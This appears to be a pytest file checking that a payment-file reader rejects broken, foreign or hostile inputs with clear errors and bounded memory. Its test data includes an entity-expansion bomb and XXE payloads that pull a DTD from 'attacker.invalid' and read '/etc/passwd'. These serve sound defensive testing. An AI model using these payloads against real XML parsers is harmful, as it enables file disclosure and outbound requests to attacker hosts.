"""Files that are broken, foreign or meant to do harm end with a sentence, soon and in bounds."""

import io
import tracemalloc

import pytest

from support.sources.files.entries import BadFile
from support.sources.files.reading import read_file, sniff
from tests.every import every
from tests.files.making import Ach, a_source, ach, booked, camt, details, news_of, read, returned

RETURN = camt(booked("CRDT", details("P-1", returned())))


LARGE = 32 * 2**20


class Large(io.RawIOBase):
    """A begin, then the same piece again and again; it counts what was asked of it."""

    def __init__(self, begin: bytes, piece: bytes):
        self._begin, self._piece = begin, piece
        self.given = 0

    def seek(self, *_where):
        self.given = 0
        return 0

    def read(self, size=-1):
        if self.given >= LARGE:
            return b""
        content = self._begin if self.given == 0 else self._piece * (size // len(self._piece))
        self.given += len(content)
        return content


def ends(content: bytes | str) -> str:
    with pytest.raises(BadFile) as caught:
        read(content)
    return str(caught.value)


def test_entities_that_double_are_refused_before_they_do():
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' + RETURN.partition("?>")[2]
    )

    assert "document type or entities" in ends(bomb.replace("P-1", "&b;"))


@every(
    "declared",
    [
        '<!DOCTYPE d SYSTEM "http://attacker.invalid/x.dtd">',
        '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/p"> %p;]>',
        "<!DOCTYPE d>",
    ],
)
def test_no_document_type_is_read_and_nothing_is_fetched(declared):
    assert "it is not read" in ends(declared + RETURN.partition("?>")[2])


def test_an_entity_that_nobody_defined_is_no_whole_xml():
    assert "Line 2" in ends(RETURN.replace("P-1", "&lol;"))


def test_nesting_without_bottom_ends():
    assert "nested deeper" in ends("<Document>" + "<a>" * 100_000)


def test_names_without_number_end():
    inner = "".join(f"<n{number}/>" for number in range(6_000))

    assert "more names" in ends(RETURN.replace("<Refs>", f"{inner}<Refs>"))


@every(
    ("begin", "piece", "sentence"),
    [
        (b"<Document><!--", b".", "without an end"),
        (b"<Document ", b"a", "without an end"),
        (b"<Document><a>", b"</a><a>", "no payment message"),
        (b"<Document", b" ", "without an end"),
        (b'a,b\n1,"', b"x", "more than 65536 characters"),
        (ach(Ach()).encode(), b"1", "more than 940 characters"),
    ],
)
def test_what_never_ends_is_ended(begin, piece, sentence):
    stream = Large(begin, piece)

    with pytest.raises(BadFile, match=sentence):
        list(read_file(stream, a_source(field_map={"fields": {"reference": "a"}})).entries)

    assert stream.given < 4 * 2**20


def test_an_element_of_32_mib_is_read_in_constant_memory():
    begin = RETURN.partition("</EndToEndId>")[0].encode()
    entries = read_file(Large(begin, b"x"), a_source()).entries

    tracemalloc.start()
    try:
        with pytest.raises(BadFile, match="no whole XML"):
            next(entries)
        assert tracemalloc.get_traced_memory()[1] < 2 * 2**20
    finally:
        tracemalloc.stop()


@every(
    "content",
    [
        RETURN.encode("utf-16"),
        b"\xef\xbb\xbf" + RETURN.encode(),
        RETURN.replace("UTF-8", "ISO-8859-1").replace("P-1", "Ä-1").encode("latin-1"),
        RETURN.replace("UTF-8", "windows-1252").replace("P-1", "€-1").encode("cp1252"),
        RETURN.replace(' encoding="UTF-8"', "").encode("utf-16-le"),
    ],
)
def test_the_encodings_that_xml_may_name_are_read(content):
    (news,) = news_of(content)

    assert news.failure_code == "AC04"


def test_a_byte_that_is_no_letter_ends_the_file_with_its_place():
    content = RETURN.replace("P-1", "Ä-1").encode("latin-1")

    sentence = ends(content)

    assert sentence.startswith("Line 2, place ")
    assert "no letter in the encoding" in sentence


@pytest.mark.parametrize("named", ["EBCDIC-XX", "utf-7", "gb18030"])
def test_an_encoding_that_cannot_be_read_is_named(named):
    assert "encoding" in ends(RETURN.replace("UTF-8", named))


def test_what_stood_before_the_fault_is_read():
    whole = camt(*(booked("CRDT", details(f"P-{n}", returned())) for n in range(300)))
    entries = read_file(io.BytesIO(whole[:-100].encode()), a_source()).entries

    seen = []
    with pytest.raises(BadFile, match="no whole XML"):
        seen.extend(iter_into(entries, seen))

    assert len(seen) >= 299


def iter_into(entries, seen):
    for entry in entries:
        seen.append(entry)
    return []


@every(
    ("head", "sentence"),
    [
        (b"", "empty"),
        (b" \n\n", "empty"),
        (b"\x1f\x8b\x08\x00", "packed"),
        (b"PK\x03\x04....", "packed"),
        (b"%PDF-1.7", "packed"),
        (b'{"type": "payment.failed"}', "JSON"),
        (b"Dear bank where is it?", "none of the files"),
        (b"\x00\x01\x02\x03" * 50, "none of the files"),
        (b"\xf1\xf0\xf1\x40" * 50, "none of the files"),  # EBCDIC
    ],
)
def test_what_is_no_file_of_ours_is_refused_in_a_sentence(head, sentence):
    with pytest.raises(BadFile, match=sentence):
        sniff(head)


@pytest.mark.parametrize(
    ("root", "sentence"),
    [
        ("CstmrCdtTrfInitn", "orders payments"),
        ("BkToCstmrStmt", "account statement"),
        ("html", "no payment message"),
    ],
)
def test_other_messages_are_named(root, sentence):
    assert sentence in ends(f"<Document><{root}></{root}></Document>")


@every(
    ("content", "kind"),
    [
        (RETURN.encode(), "xml"),
        (RETURN.encode("utf-16"), "xml"),
        (b"\xef\xbb\xbf\r\n <Document/>", "xml"),
        (ach(Ach()).encode(), "nacha"),
        (ach(Ach(), end="").encode(), "nacha"),
        (b"id;status\n1;paid\n", "csv"),
        ("id\tstatus\n1\tpaid\n".encode("utf-16"), "csv"),
        (b"sep=|\nid|status\n", "csv"),
    ],
)
def test_a_file_is_known_by_what_stands_in_it(content, kind):
    assert sniff(content[:4096]) == kind
